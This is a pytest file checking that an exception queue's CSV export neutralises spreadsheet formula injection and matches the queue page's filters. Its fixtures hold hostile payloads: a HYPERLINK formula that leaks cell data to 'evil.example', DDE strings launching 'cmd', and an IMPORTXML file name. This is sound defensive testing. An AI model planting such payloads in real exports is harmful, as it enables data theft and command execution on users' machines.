"""Formula injection in the exception queue's CSV export (``GET /queue.csv``).

Orders whose PO numbers are formulas, a customer whose name is one, and a rejected document
whose file name is one are ingested through the real pipeline; the export, as a logged-in clerk
downloads it, must hold every value with no cell a spreadsheet would evaluate, and the same
items the queue page shows for the same filters.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from sqlalchemy import update

from gateway import storage
from gateway.desk.exception_queue_csv import COLUMNS
from gateway.desk.exception_queue_csv import FORMULA_STARTS
from gateway.desk.exception_queue_csv import neutralise
from gateway.inbound.pipeline import Pipeline
from partners import PartnerRegistry
from tests.web.test_web_desk_support import NOW
from tests.web.test_web_desk_support import DeskApp
from tests.web.test_web_desk_support import own_desk_store

HOSTILE_POS = (
    '=HYPERLINK("http://evil.example/?leak="&A1;"Click me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
HOSTILE_CUSTOMER = "=cmd|' /C calc'!A0"
HOSTILE_FILENAME = "@IMPORTXML(CONCAT(x)).bin"
_ROW = re.compile(r'data-kind="(order|document)" data-id="(\d+)"')


def _sheet_order(po_number: str) -> bytes:
    """A CSV order from acme for an unknown SKU (so it waits in the queue) under ``po_number``."""
    quoted = po_number.replace('"', '""')
    return f'PO Number,"{quoted}"\nItem,Qty,Unit Price\nNW-99001,10,4.50\n'.encode()


@pytest.fixture(scope="module")
def store(master_template: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("desk-csv")
    path = own_desk_store(master_template, tmp_path_factory, folder)
    engine = storage.make_engine(f"sqlite:///{path}")
    sessions = storage.make_sessionmaker(engine)
    pipeline = Pipeline(sessions, PartnerRegistry.from_directory(), clock=lambda: NOW)
    for number, po in enumerate(HOSTILE_POS):
        outcome = pipeline.ingest_stream(
            io.BytesIO(_sheet_order(po)), channel="drop", filename=f"po-{number}.csv", partner="acme"
        )
        assert outcome.status == "processed"
    junk = io.BytesIO(b"\x00\x01 not an order in any format \x02")
    assert pipeline.ingest_stream(junk, channel="drop", filename=HOSTILE_FILENAME).status == "rejected"
    with sessions() as session, session.begin():
        account = storage.CreditAccount
        session.execute(update(account).where(account.account == "C1001").values(name=HOSTILE_CUSTOMER))
    engine.dispose()
    return path


def _rows(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")  # so Excel reads it as UTF-8
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def _download(desk: DeskApp, query: str = "") -> list[dict[str, str]]:
    response = desk.client("alice").get(f"/queue.csv{query}")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="exception-queue-')
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in response.headers["Cache-Control"]
    return _rows(response.text)


def test_no_cell_of_the_export_starts_a_formula(desk: DeskApp) -> None:
    rows = _download(desk)
    assert rows and list(rows[0]) == list(COLUMNS)
    for row in rows:
        for column, cell in row.items():
            assert not cell.lstrip(" ").startswith(FORMULA_STARTS), (column, cell)


def test_hostile_values_are_kept_whole_behind_a_quote(desk: DeskApp) -> None:
    rows = _download(desk)
    po_numbers = {row["po_number"] for row in rows}
    for po in HOSTILE_POS:
        assert f"'{po}" in po_numbers, po  # shown as written, never evaluated
    assert {row["customer_name"] for row in rows if row["customer_account"] == "C1001"} == {
        f"'{HOSTILE_CUSTOMER}"
    }
    [junk] = [row for row in rows if row["filename"].endswith(".bin")]
    assert junk["filename"] == "'@IMPORTXML(CONCAT(x)).bin" and junk["kind"] == "document"


def test_the_export_has_what_the_queue_page_shows_for_the_same_filters(desk: DeskApp) -> None:
    client = desk.client("alice")
    for query in (
        "",
        "?reason=unknown_sku",
        "?reason=parse_confidence",
        "?search=acme&channel=excel",
        "?partner=acme&page=2",
    ):
        page = client.get(f"/queue{query}{'&' if query else '?'}per_page=200").text
        shown = {(kind, int(id_)) for kind, id_ in _ROW.findall(page)}
        exported = {
            (row["kind"], int(row["order_id"] or row["document_id"])) for row in _download(desk, query)
        }
        assert exported == shown and shown, query  # paging is ignored: every match, not one page


def test_the_queue_page_links_to_the_export_with_its_filters(desk: DeskApp) -> None:
    page = desk.client("alice").get("/queue?reason=unknown_sku&page=1").text
    assert 'href="/queue.csv?reason=unknown_sku" download' in page


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),
        ("4500012345", "4500012345"),
        ("Acme Retail", "Acme Retail"),
        ("a=b", "a=b"),
        (None, ""),
        (12.5, "12.5"),
    ],
)
def test_neutralise(value: object, cell: str) -> None:
    assert neutralise(value) == cell
